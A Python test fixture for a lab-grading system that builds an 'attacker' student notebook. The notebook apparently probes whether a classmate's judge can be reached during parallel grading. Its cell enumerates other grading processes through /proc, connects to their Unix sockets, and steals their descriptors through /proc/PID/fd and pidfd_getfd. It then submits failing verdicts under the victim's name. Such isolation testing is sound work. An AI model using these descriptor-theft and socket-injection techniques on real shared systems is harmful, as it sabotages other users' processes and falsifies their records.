"""A submission that tries to reach a classmate's judge while both are graded (``--jobs 2``).

The judge of a student records the verdicts their test cells score; a request it takes from
another student's process is scored as the victim's. The attacker's first solution cell looks for
every way in that a student can see from the handout, and asks what it reaches to fail each of
Lab 1's checks with a function that returns None:
- sockets with a path or an abstract name (``/proc/net/unix``, the temporary folder) whose peer
  is a classmate's grading worker, where the judge is a thread (SO_PEERCRED names the peer);
- the descriptors the kernel holds (and whether a rank it starts holds its own judge channel);
- a classmate's descriptors through ``/proc/PID/fd/N`` and ``pidfd_getfd``.
It keeps trying while a classmate's worker runs (a bounded time), and prints what it saw: the
classmates it found (the runs overlapped) and the judges it reached.
"""
from __future__ import annotations

from . import replace_cell, solved, student

LAB = "01_collectives"

REACH_CLASSMATE = '''\
import ctypes, errno, glob, os, pickle, socket, struct, time
from pathlib import Path
import cloudpickle

MY_ROOT = Path.cwd().parents[2]          # <work>/students/<me>: the course folder of my worker
CHECKS = {"check_all_reduce_rs_ag": 1, "check_ring_all_reduce": 1, "check_bus_factor": 2,
          "check_bandwidths": 1, "check_alpha_beta": 2, "check_ring_model": 1}

def _cmdline(pid):
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\\0")
    except OSError:
        return []

def _worker_root(pid):
    args = _cmdline(pid)
    if b"distlab.grading.worker" in args[:-1]:
        return Path(args[args.index(b"distlab.grading.worker") + 1].decode())
    return None

def _classmates():
    """{pid: student} of the other grading workers of this run, and of their descendants."""
    workers, parents = {}, {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        pid = int(entry)
        root = _worker_root(pid)
        if root is not None and root.parent == MY_ROOT.parent and root != MY_ROOT:
            workers[pid] = root.name
        try:
            parents[pid] = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, IndexError, ValueError):
            pass
    found, grew = dict(workers), True
    while grew:
        grew = False
        for pid, parent in parents.items():
            if parent in found and pid not in found:
                found[pid], grew = found[parent], True
    return workers, found

def _socket(fd):
    """A socket object on a duplicate of descriptor ``fd``, or None (not a socket)."""
    try:
        copy = os.dup(fd)
    except OSError:   # closed since it was listed (the listing's own descriptor)
        return None
    try:
        return socket.socket(fileno=copy)
    except OSError:
        os.close(copy)
        return None

def _peer(sock):
    try:
        return struct.unpack("3i", sock.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
    except OSError:
        return None

def _bad(*args, **kwargs):
    return None

def _request(check):
    packed = ("code", cloudpickle.dumps(_bad), "_bad")
    return pickle.dumps((f"distlab.checks.lab01:{check}", [packed] * CHECKS[check], {}))

def _ask(sock, check):
    """One request in the judge's framing on a connected stream: the judge's status, or None."""
    data = _request(check)
    sock.settimeout(120)
    sock.sendall(struct.pack("!Q", len(data)) + data)
    size = struct.unpack("!Q", sock.recv(8, socket.MSG_WAITALL))[0]
    body = sock.recv(size, socket.MSG_WAITALL)
    return pickle.loads(body).get("status")

def _ask_channel(sock, check):
    """The same through a judge channel (a descriptor that takes connections, SCM_RIGHTS)."""
    mine, theirs = socket.socketpair()
    socket.send_fds(sock, [b"c"], [theirs.fileno()])
    theirs.close()
    with mine:
        return _ask(mine, check)

def _named_sockets():
    names = set(glob.glob("/tmp/**/*.sock", recursive=True)) | set(glob.glob("/tmp/distlab-*/*"))
    try:
        for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8:
                names.add(fields[7])
    except OSError:
        pass
    return sorted(names)

tried, reached, seen = {}, [], set()

def _note(route, outcome):
    tried.setdefault(route, set()).add(outcome)

def _connect(address):
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.connect(address)
        return sock
    except OSError as exc:
        sock.close()
        _note("paths", errno.errorcode.get(exc.errno, str(exc.errno)))
        return None

def _try_paths(workers, statuses):
    for name in _named_sockets():
        address = "\\0" + name[1:] if name.startswith("@") else name
        sock = _connect(address)
        if sock is None:
            continue
        with sock:
            if _peer(sock) not in workers:     # not a classmate's grading process: leave it alone
                continue
        _note("paths", "a classmate's process listens")
        for check in CHECKS:                   # a connection per request, as a kernel's
            sock = _connect(address)
            if sock is not None:
                with sock:
                    statuses.append(("path " + name, _safely(_ask, sock, check)))

def _safely(ask, sock, check):
    """The judge's status (a reply came), or None."""
    try:
        return ask(sock, check)
    except Exception as exc:
        _note("asked", type(exc).__name__)
        return None

def _try_descriptors(fds, route, classmates, statuses):
    for fd in fds:
        sock = _socket(fd)
        if sock is None:
            continue
        with sock:
            if sock.family != socket.AF_UNIX or _peer(sock) not in classmates:
                continue
            _note(route, "classmate socket")
            ask = _ask_channel if sock.type == socket.SOCK_SEQPACKET else _ask
            for check in CHECKS:
                statuses.append((f"{route} fd {fd}", _safely(ask, sock, check)))

def _own_fds():
    mine = os.environ.get("DISTLAB_JUDGE", "")
    return [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2 and fd != mine]

_SYS_PIDFD_GETFD = 438

def _stolen(classmates):
    """Descriptors of classmates' processes, opened through /proc or pidfd_getfd."""
    libc = ctypes.CDLL(None, use_errno=True)
    got = []
    for pid in classmates:
        for fd in range(3, 40):
            try:
                got.append(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR))
                _note("/proc/PID/fd", "opened")
            except OSError as exc:
                _note("/proc/PID/fd", errno.errorcode.get(exc.errno, str(exc.errno)))
            try:
                pidfd = os.pidfd_open(pid)
            except OSError as exc:
                _note("pidfd_getfd", errno.errorcode.get(exc.errno, str(exc.errno)))
                continue
            stolen = libc.syscall(_SYS_PIDFD_GETFD, pidfd, fd, 0)
            os.close(pidfd)
            if stolen >= 0:
                got.append(stolen)
                _note("pidfd_getfd", "stolen")
            else:
                _note("pidfd_getfd", errno.errorcode.get(ctypes.get_errno(), "?"))
    return got

def _holds_a_judge_channel(rank, world_size, worker):
    """Whether this rank holds a socket that the grading worker made (a judge channel is one)."""
    held = []
    for fd in os.listdir("/proc/self/fd"):
        sock = _socket(int(fd))
        if sock is None:
            continue
        with sock:
            if sock.family == socket.AF_UNIX and _peer(sock) == worker:
                held.append(int(fd))
    return held


deadline = time.monotonic() + 200
while time.monotonic() < deadline:
    workers, classmates = _classmates()
    if not workers:
        if seen:
            break              # they are done: nothing left to reach
        time.sleep(0.5)
        continue
    seen.update(workers.values())
    statuses = []
    _try_paths(workers, statuses)
    _try_descriptors(_own_fds(), "kernel", classmates, statuses)
    stolen = _stolen(classmates)
    _try_descriptors(stolen, "stolen", classmates, statuses)
    for fd in stolen:
        os.close(fd)
    reached += [(where, status) for where, status in statuses if status is not None]
    if any(status != "skipped" for _, status in reached):
        break                  # a verdict filed under a classmate's test: done
    time.sleep(0.5)
_me = os.getppid()     # a kernel is its grading worker's child
print("my worker found:", _worker_root(_me) == MY_ROOT)
print("ranks hold a judge channel:", distlab.run(_holds_a_judge_channel, 2, _me))
print("classmates seen:", sorted(seen))
print("ways tried:", {route: sorted(outcomes) for route, outcomes in sorted(tried.items())})
print("classmate judges reached:", sorted({where for where, _ in reached}))
print("verdicts filed:", sorted({status for _, status in reached} - {"skipped"}))
'''


def classmate_samples() -> dict[str, object]:
    """{student: Lab 1 notebook}: a ``victim`` that answered half of the lab, and an ``attacker``
    who answered nothing and tries to reach the victim's judge."""
    return {"victim": solved(LAB, {"all_reduce_rs_ag", "bandwidths"}),
            "attacker": replace_cell(student(LAB), "all_reduce_rs_ag", REACH_CLASSMATE)}
